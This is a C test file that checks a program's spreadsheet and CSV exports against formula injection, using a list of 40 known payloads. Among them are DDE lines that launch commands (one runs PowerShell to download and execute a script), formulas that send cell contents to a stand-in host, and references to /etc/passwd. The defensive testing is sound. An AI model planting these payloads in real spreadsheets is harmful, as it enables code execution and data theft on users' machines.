/* test-spreadsheets.c: a table that leaves does nothing where it is opened
 *
 * SPDX-FileCopyrightText: 2026 The Kith authors
 * SPDX-License-Identifier: GPL-3.0-or-later
 *
 * What a pupil was called, or a stranger wrote, stands in cells that others open.
 * Forty texts that spreadsheet programs are known to run, or to fetch something
 * for, are written as a workbook and as a CSV file. In the workbook's own XML
 * there must be no formula and no link. Where LibreOffice is installed it opens
 * both, and must find no formula either; the folder of the tests has none, since
 * it would be a third of it.
 */

#include "config.h"

#include <gio/gio.h>
#include <glib/gstdio.h>
#include <string.h>

#include "kith-print-layout.h"
#include "kith-print-text.h"
#include "kith-test-figure.h"
#include "kith-test-store.h"
#include "kith-zip.h"

#define ROW 22
#define MAX_PART (4 * 1024 * 1024)

static const char * const payloads[] = {
  "=1+1", "=cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(wget 0.0.0.0/s)'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0", "=HYPERLINK(\"http://example.invalid/?\"&A1,\"More\")", "=WEBSERVICE(\"http://example.invalid/\"&A1)",
  "=IMPORTXML(CONCAT(\"http://example.invalid/\",A1),\"//a\")", "=IMPORTFEED(\"http://example.invalid/\")",
  "=IMPORTHTML(\"http://example.invalid/\",\"table\",1)", "=IMPORTRANGE(\"http://example.invalid/\",\"a1\")",
  "=IMAGE(\"http://example.invalid/\")", "='file:///etc/passwd'#$passwd.A1", "=DDE(\"soffice\",\"/etc/passwd\",\"A1\")",
  "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''", "=rundll32|'URL.dll,OpenURL calc.exe'!A", "=EXEC(\"calc\")",
  "=CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)", "=REGISTER(\"kernel32\",\"WinExec\",\"JJC\",\"W\",,1,9)",
  "=INFO(\"directory\")", "=CELL(\"filename\")", "=INDIRECT(\"A1\")", "=SUM(A1:A9)", "={1,2;3,4}", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
  "\302\240=1+1", "\357\273\277=1+1", "\357\274\2351+1", "\357\274\2131+1", "\357\274\2151+1", "\357\274\240SUM(1)", "'=1+1", "\"=1+1",
  ";=1+1", "=1+1\",=2+2", "%0A=1+1",
};

static const KithPrintTable table = { KITH_PRINT_DATED, 2, { 50, 50 }, { "Event", "Source" } };

static KithPrintDocument *
make_document (void)
{
  KithPrintDocument *document = kith_print_document_new ("Chronology");

  kith_print_document_begin_table (document, &table);
  for (guint i = 0; i < G_N_ELEMENTS (payloads); i++)
    {
      const KithPrintCell cells[] = {
        { KITH_PRINT_TEXT, KITH_DATE_NONE, (char *)payloads[i], TRUE },
        { KITH_PRINT_TEXT, KITH_DATE_NONE, (char *)"Note", FALSE },
      };

      kith_print_document_add_row (document, cells);
    }

  return document;
}

static GBytes *
make_workbook (void)
{
  g_autoptr(KithPrintDocument) document = make_document ();
  g_autoptr(KithPrintFoot) foot = kith_print_foot_new (0, "Wren Ashgrove", "=1+1", "1");

  return kith_print_document_to_workbook (document, foot);
}

static guint
count (const char *text,
       const char *word)
{
  guint n = 0;

  for (const char *p = strstr (text, word); p != NULL; p = strstr (p + 1, word))
    n++;

  return n;
}

static gboolean
append_part (const guint8 *data,
             gsize         size,
             gpointer      user_data,
             GError      **error)
{
  g_string_append_len (user_data, (const char *)data, (gssize)size);

  return TRUE;
}

static char *
dup_part (KithZip    *zip,
          const char *name)
{
  g_autoptr(GString) text = g_string_new (NULL);
  g_autoptr(GError) error = NULL;

  kith_zip_read (zip, name, MAX_PART, append_part, text, NULL, &error);
  g_assert_no_error (error);

  return g_string_free_and_steal (g_steal_pointer (&text));
}

static void
test_workbook_has_no_formula (void)
{
  static const char * const parts[] = { "xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml" };
  g_autoptr(GBytes) workbook = make_workbook ();
  g_autoptr(GError) error = NULL;
  g_autoptr(KithZip) zip = kith_zip_new (workbook, &error);

  g_assert_no_error (error);
  for (guint i = 0; i < G_N_ELEMENTS (parts); i++)
    {
      g_autofree char *xml = dup_part (zip, parts[i]);

      g_assert_nonnull (strstr (xml, "<c "));
      g_assert_null (strstr (xml, "<f>"));
      g_assert_null (strstr (xml, "<f "));
      g_assert_null (strstr (xml, "<hyperlink"));
    }
  g_assert_false (kith_zip_has (zip, "xl/externalLinks/externalLink1.xml"));
  g_assert_false (kith_zip_has (zip, "xl/worksheets/_rels/sheet1.xml.rels"));
}

/* Nobody takes a cell that begins with an apostrophe, or within a quotation with one, for a formula. */
static void
test_csv_has_no_formula (void)
{
  g_autoptr(KithPrintDocument) document = make_document ();
  g_autoptr(GBytes) csv = kith_print_document_to_csv (document);
  g_autofree char *text = g_strndup (g_bytes_get_data (csv, NULL), g_bytes_get_size (csv));
  g_auto(GStrv) lines = g_strsplit (text, "\r\n", -1);

  for (guint i = 1; lines[i] != NULL && lines[i][0] != '\0'; i++)
    {
      const char *p = lines[i] + (lines[i][0] == '"');

      if (strpbrk (p, "=+-@") == p)
        g_error ("A line begins as a formula does");
    }
  g_assert_cmpuint (g_strv_length (lines), ==, G_N_ELEMENTS (payloads) + 2);
}

/* As LibreOffice's own file tells of what it has taken in. */
static char *
open_with (const char *office,
           const char *folder,
           const char *name,
           GBytes     *bytes)
{
  g_autofree char *path = g_build_filename (folder, name, NULL);
  g_autofree char *stem = g_strndup (name, strcspn (name, "."));
  g_autofree char *flat = g_strdup_printf ("%s/%s.fods", folder, stem);
  g_autofree char *profile = g_strdup_printf ("-env:UserInstallation=file://%s/profile", folder);
  g_autoptr(GSubprocess) process = NULL;
  g_autoptr(GError) error = NULL;
  char *text;

  g_file_set_contents (path, g_bytes_get_data (bytes, NULL), (gssize)g_bytes_get_size (bytes), &error);
  g_assert_no_error (error);
  process = g_subprocess_new (G_SUBPROCESS_FLAGS_STDOUT_SILENCE | G_SUBPROCESS_FLAGS_STDERR_SILENCE, &error,
                              office, profile, "--headless", "--convert-to", "fods", "--outdir", folder, path, NULL);
  g_assert_no_error (error);
  g_subprocess_wait_check (process, NULL, &error);
  g_assert_no_error (error);
  g_file_get_contents (flat, &text, NULL, &error);
  g_assert_no_error (error);

  return text;
}

static void
test_office_finds_no_formula (void)
{
  g_autofree char *office = g_find_program_in_path ("soffice");
  g_autofree char *folder = NULL;
  g_autoptr(KithPrintDocument) document = make_document ();
  g_autoptr(GBytes) workbook = make_workbook ();
  g_autoptr(GBytes) csv = kith_print_document_to_csv (document);
  g_autofree char *from_workbook = NULL;
  g_autofree char *from_csv = NULL;

  if (office == NULL)
    {
      kith_test_figure (ROW, "%u payloads: 0 formulas in the workbook's XML, 0 unguarded cells in the CSV file; no LibreOffice here to open them",
                        (guint)G_N_ELEMENTS (payloads));
      return;
    }

  folder = kith_test_make_folder ();
  from_workbook = open_with (office, folder, "book.xlsx", workbook);
  from_csv = open_with (office, folder, "lines.csv", csv);
  kith_test_remove_folder (folder);
  g_assert_nonnull (strstr (from_workbook, "IMPORTXML"));
  g_assert_nonnull (strstr (from_csv, "IMPORTXML"));
  kith_test_figure (ROW, "%u payloads opened by LibreOffice: %u formula cells from the workbook, %u from the CSV file",
                    (guint)G_N_ELEMENTS (payloads), count (from_workbook, "table:formula="), count (from_csv, "table:formula="));
  g_assert_null (strstr (from_workbook, "table:formula="));
  g_assert_null (strstr (from_csv, "table:formula="));
}

int
main (int    argc,
      char **argv)
{
  g_test_init (&argc, &argv, NULL);

  g_assert_cmpuint (G_N_ELEMENTS (payloads), ==, 40);
  g_test_add_func ("/spreadsheets/workbook-has-no-formula", test_workbook_has_no_formula);
  g_test_add_func ("/spreadsheets/csv-has-no-formula", test_csv_has_no_formula);
  g_test_add_func ("/spreadsheets/office-finds-no-formula", test_office_finds_no_formula);

  return g_test_run ();
}
